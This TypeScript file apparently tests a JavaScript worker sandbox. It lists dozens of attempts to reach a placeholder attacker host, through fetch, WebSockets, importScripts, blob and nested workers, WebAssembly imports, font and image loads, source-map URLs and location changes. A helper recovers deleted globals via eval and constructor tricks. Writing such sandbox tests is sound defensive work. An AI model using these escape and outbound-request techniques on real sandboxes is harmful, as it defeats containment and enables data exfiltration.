/** Attempts to send anything anywhere: each name that a worker has for it, by every way back to a deleted name. */
import { each, js } from '../attempt.ts'

/** Looks for a name on the global object, its prototypes, in other function realms and on constructors. */
const find = `
const find = (name) => {
  const routes = [
    () => globalThis[name],
    () => self[name],
    () => Function('return ' + name)(),
    () => (0, eval)(name),
    () => Object.getPrototypeOf(function* () {}).constructor('yield ' + name)().next().value,
    () => Reflect.get(Object.getPrototypeOf(globalThis), name, globalThis),
    () => Reflect.get(Object.getPrototypeOf(Object.getPrototypeOf(globalThis)), name, globalThis),
    () => globalThis.constructor.prototype[name],
    () => Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, name)?.value,
    () => Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, name)?.get?.call(globalThis),
    () => new Error().constructor.constructor('return this')()[name],
    () => performance.constructor.constructor('return this')()[name],
  ]
  for (const route of routes) {
    try {
      const found = route()
      if (found && !(found instanceof Promise)) return found
    } catch {}
  }
  throw new ReferenceError(name)
}`

/** What is done with each name; `find` gives its value. */
export const uses: Record<string, string> = {
  fetch: `await find('fetch').call(globalThis, '{{attacker}}', { mode: 'no-cors' })`,
  'fetch-site': `return (await find('fetch').call(globalThis, '{{site}}/?{{id}}')).text()`,
  'fetch-keepalive': `await find('fetch').call(globalThis, '{{attacker}}', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })`,
  xhr: `const one = new (find('XMLHttpRequest'))(); one.open('GET', '{{attacker}}', false); one.send()`,
  'xhr-async': `const one = new (find('XMLHttpRequest'))(); one.open('GET', '{{site}}/?{{id}}'); one.send(); await new Promise((resolve) => (one.onloadend = resolve))`,
  websocket: `const one = new (find('WebSocket'))('ws://{{attackerHost}}/{{id}}'); await new Promise((resolve) => (one.onclose = resolve))`,
  'websocket-stream': `await new (find('WebSocketStream'))('ws://{{attackerHost}}/{{id}}').opened`,
  webtransport: `await new (find('WebTransport'))('https://{{stun}}/{{id}}').ready`,
  eventsource: `const one = new (find('EventSource'))('{{attacker}}'); await new Promise((resolve) => (one.onerror = resolve))`,
  'send-beacon': `return find('navigator').sendBeacon('{{attacker}}', 'x')`,
  'import-scripts': `find('importScripts')('{{attacker}}')`,
  'import-scripts-site': `find('importScripts')('{{site}}/site.js?{{id}}')`,
  worker: `new (find('Worker'))('{{attacker}}'); await new Promise(() => {})`,
  'worker-site': `new (find('Worker'))('{{site}}/site.js?{{id}}'); await new Promise(() => {})`,
  'worker-module': `new (find('Worker'))('{{attacker}}', { type: 'module' }); await new Promise(() => {})`,
  'shared-worker': `new (find('SharedWorker'))('{{attacker}}'); await new Promise(() => {})`,
  'service-worker': `await find('navigator').serviceWorker.register('{{site}}/site.js?{{id}}')`,
  webrtc: `const one = new (find('RTCPeerConnection'))({ iceServers: [{ urls: 'stun:{{stun}}' }] }); one.createDataChannel('x'); await one.setLocalDescription(await one.createOffer())`,
  'webrtc-prefixed': `new (find('webkitRTCPeerConnection'))({ iceServers: [{ urls: 'stun:{{stun}}' }] })`,
  'webrtc-data-channel': `return typeof find('RTCDataChannel')`,
  'push-manager': `return await find('PushManager').prototype.subscribe.call(find('navigator'), { userVisibleOnly: true })`,
  notification: `new (find('Notification'))('x', { icon: '{{attacker}}', image: '{{attacker}}' })`,
  image: `new (find('Image'))().src = '{{attacker}}'`,
  audio: `new (find('Audio'))('{{attacker}}').play()`,
  'background-fetch': `await find('BackgroundFetchManager').prototype.fetch.call({}, 'x', '{{attacker}}')`,
  'protocol-handler': `find('navigator').registerProtocolHandler('web+x', '{{site}}/?%s')`,
  'serial-or-usb': `return await (find('navigator').serial ?? find('navigator').usb ?? find('navigator').hid).getPorts()`,
}

const nested = `
const spawnNested = (script) => new (find('Worker'))(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })))
const answer = (worker) => new Promise((resolve, reject) => { worker.onmessage = (event) => resolve(String(event.data)); worker.onerror = () => reject(new Error('worker')) })`

export const attempts = [
  ...each(Object.keys(uses), (name) => js(`network-${name}`, `${find}\n${uses[name]}`)),
  js('network-import-attacker', `await import('{{attacker}}')`),
  js('network-import-site', `await import('{{site}}/site.js?{{id}}')`),
  js('network-import-relative', `await import('/site.js?{{id}}')`),
  js('network-import-attributes', `await import('{{attacker}}', { with: { type: 'json' } })`),
  js('network-import-css', `await import('{{attacker}}', { with: { type: 'css' } })`),
  { id: 'network-static-import', language: 'js' as const, code: `import '{{attacker}}'\nconsole.log('ran')` },
  {
    id: 'network-static-import-json',
    language: 'js' as const,
    code: `import x from '{{site}}/engines/manifest.json' with { type: 'json' }\nconsole.log(x)`,
  },
  js('network-import-data', `await import('data:text/javascript,import "{{attacker}}"')`),
  js(
    'network-import-blob',
    `await import(URL.createObjectURL(new Blob(['import "{{attacker}}"'], { type: 'text/javascript' })))`,
  ),
  js(
    'network-import-blob-chain',
    `
const inner = URL.createObjectURL(new Blob(['export default await import("{{attacker}}")'], { type: 'text/javascript' }))
await import(URL.createObjectURL(new Blob(['export * from ' + JSON.stringify(inner)], { type: 'text/javascript' })))`,
  ),
  js(
    'network-import-meta',
    `return await import(new URL('/site.js?{{id}}', import.meta.url.replace('blob:', '')).href)`,
  ),
  js('network-import-meta-resolve', `return await import(import.meta.resolve('/site.js?{{id}}'))`),
  js('network-function-import', `return await Function('return import("{{attacker}}")')()`),
  js('network-eval-import', `return await (0, eval)('import("{{attacker}}")')`),
  js(
    'network-timer-string',
    `setTimeout('import("{{attacker}}")', 1); await new Promise((resolve) => setTimeout(resolve, 50))`,
  ),
  js(
    'network-nested-worker-blob',
    `${find}${nested}
return await answer(spawnNested('fetch("{{attacker}}").then(() => postMessage("sent"), (error) => postMessage(error.name))'))`,
  ),
  js(
    'network-nested-worker-data',
    `${find}
new (find('Worker'))('data:text/javascript,fetch("{{attacker}}")')\nawait new Promise(() => {})`,
  ),
  js(
    'network-wasm-streaming-response',
    `await WebAssembly.compileStreaming(new Response('x', { headers: { 'content-type': 'application/wasm' } }))`,
  ),
  js('network-wasm-streaming-url', `await WebAssembly.instantiateStreaming(new Request('{{attacker}}'))`),
  js('network-wasm-streaming-fetch', `${find}\nawait WebAssembly.instantiateStreaming(find('fetch')('{{attacker}}'))`),
  js(
    'network-wasm-import-fetch',
    `${find}
// (module (import "a" "b" (func)) (start 0))
const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 2, 7, 1, 1, 97, 1, 98, 0, 0, 8, 1, 0])
await WebAssembly.instantiate(bytes, { a: { b: () => import('{{attacker}}') } })`,
  ),
  js(
    'network-request-cache',
    `const one = new Request('{{attacker}}'); return await Cache.prototype.add.call({}, one)`,
  ),
  js('network-font-face', `await new FontFace('x', 'url({{attacker}})').load()`),
  js(
    'network-font-set',
    `const face = new FontFace('x', 'url({{attacker}})'); fonts.add(face); await fonts.load('12px x')`,
  ),
  js(
    'network-canvas-font',
    `
const canvas = new OffscreenCanvas(10, 10)
const context = canvas.getContext('2d')
context.font = '12px x, url({{attacker}})'
context.filter = 'url({{attacker}}#x)'
context.fillText('x', 0, 5)`,
  ),
  js('network-canvas-image-bitmap', `await createImageBitmap('{{attacker}}')`),
  js(
    'network-canvas-svg-blob',
    `
const svg = '<svg xmlns="http://www.w3.org/2000/svg"><image href="{{attacker}}"/></svg>'
await createImageBitmap(new Blob([svg], { type: 'image/svg+xml' }))`,
  ),
  js(
    'network-image-decoder',
    `await new ImageDecoder({ type: 'image/svg+xml', data: new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg"><image href="{{attacker}}"/></svg>') }).decode()`,
  ),
  js(
    'network-source-map',
    `const one = Function('//# sourceMappingURL={{attacker}}\\nthrow new Error("x")'); try { one() } catch (error) { return error.stack.length + '' }`,
  ),
  { id: 'network-source-map-fence', language: 'js', code: `//# sourceMappingURL={{attacker}}\nthrow new Error('x')` },
  js('network-source-url-eval', `(0, eval)('1\\n//# sourceURL={{attacker}}\\n//# sourceMappingURL={{attacker}}')`),
  js('network-location-assign', `location.assign('{{attacker}}')`),
  js(
    'network-location-href',
    `location.href = '{{attacker}}'; self.location = '{{attacker}}'; globalThis.location = '{{attacker}}'`,
  ),
  js(
    'network-location-prototype',
    `Object.getOwnPropertyDescriptor(WorkerLocation.prototype, 'href').set.call(location, '{{attacker}}')`,
  ),
  js('network-open-window', `(globalThis.open ?? globalThis.constructor.constructor('return open')())('{{attacker}}')`),
  js('network-client-open', `await clients.openWindow('{{attacker}}')`),
  js(
    'network-report',
    `reportError(new Error('{{attacker}}')); await new Promise((resolve) => setTimeout(resolve, 20))`,
  ),
  js(
    'network-reporting-observer',
    `new ReportingObserver(() => {}, { buffered: true }).observe(); import('{{attacker}}').catch(() => {})`,
  ),
  js(
    'network-csp-report',
    `addEventListener('securitypolicyviolation', (event) => print(event.blockedURI)); await import('{{attacker}}/report').catch(() => {}); await new Promise((resolve) => setTimeout(resolve, 30))`,
  ),
  js(
    'network-speculation-rules',
    `document.head.append('<script type="speculationrules">{"prefetch":[{"urls":["{{attacker}}"]}]}</script>')`,
  ),
  js('network-dns-prefetch', `document.head.innerHTML = '<link rel="dns-prefetch" href="{{attacker}}">'`),
  js('network-scheduler', `await scheduler.postTask(() => import('{{attacker}}'))`),
  js(
    'network-trusted-types',
    `const policy = trustedTypes.createPolicy('x', { createScriptURL: (url) => url }); await import(policy.createScriptURL('{{attacker}}'))`,
  ),
  js(
    'network-url-blob-fetch',
    `${find}\nreturn await (await find('fetch')(URL.createObjectURL(new Blob(['x'])))).text()`,
  ),
  js('network-file-reader-sync', `${find}\nreturn new (find('FileReaderSync'))().readAsText(new Blob(['x']))`),
  js(
    'network-stream-byob',
    `return await new Response(new ReadableStream({ start: (one) => (one.enqueue('{{attacker}}'), one.close()) })).text()`,
  ),
  js('network-redirect-response', `return Response.redirect('{{attacker}}').headers.get('location')`),
]
